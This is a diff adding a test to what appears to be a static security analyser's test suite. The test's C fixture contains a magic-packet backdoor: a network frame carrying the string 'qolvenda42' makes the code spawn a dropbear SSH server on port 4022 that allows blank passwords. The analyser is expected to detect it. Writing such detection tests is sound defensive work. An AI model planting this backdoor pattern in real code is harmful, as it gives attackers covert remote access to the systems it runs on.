@@ -59,3 +59,54 @@ def test_the_same_parser_fed_from_a_local_file_is_silent(tmp_path):
     local = MAIN_C.replace("recvfrom(s, g_rxbuf, sizeof(g_rxbuf), 0, NULL, NULL)", "read_config(g_rxbuf)")
     run = analyse_directory(_tree(tmp_path, local))
     assert [f.rule for f in run.findings if f.severity.value in ("high", "critical")] == []
+
+
+RX_C = """#include <sys/socket.h>
+#include "frame.h"
+static int read_full(int fd, unsigned char *p, size_t len)
+{
+    size_t got = 0;
+    while (got < len) {
+        ssize_t r = recv(fd, p + got, len - got, 0);
+        if (r <= 0)
+            return -1;
+        got += (size_t)r;
+    }
+    return 0;
+}
+void rx_loop(int fd)
+{
+    unsigned char buf[512];
+    for (;;) {
+        int c = accept(fd, NULL, NULL);
+        while (read_full(c, buf, 64) == 0)
+            frame_input(buf, 64);
+    }
+}
+"""
+
+FRAME_C = """#include <string.h>
+#include <unistd.h>
+int frame_input(const unsigned char *pkt, size_t n)
+{
+    if (n > 12 && memcmp(pkt + 2, "qolvenda42", 10) == 0) {
+        if (fork() == 0)
+            execl("/usr/sbin/dropbear", "dropbear", "-B", "-F", "-p", "4022", (char *)NULL);
+        return 0;
+    }
+    return -1;
+}
+"""
+
+
+def test_packet_read_by_a_recv_wrapper_and_parsed_in_another_file(tmp_path):
+    (tmp_path / "src").mkdir()
+    (tmp_path / "src" / "rx.c").write_text(RX_C)
+    (tmp_path / "src" / "frame.c").write_text(FRAME_C)
+    run = analyse_directory(tmp_path)
+    got = [(f.rule, f.path) for f in run.findings if f.severity.value in ("high", "critical")]
+    assert got == [("source.magic-input-command", "src/frame.c")]
+    # the wrapper reading a local file instead of a socket hands no remote input
+    (tmp_path / "src" / "rx.c").write_text(RX_C.replace("recv(fd, p + got, len - got, 0)", "read(fd, p + got, len - got)"))
+    run = analyse_directory(tmp_path)
+    assert [f.rule for f in run.findings if f.severity.value in ("high", "critical")] == []
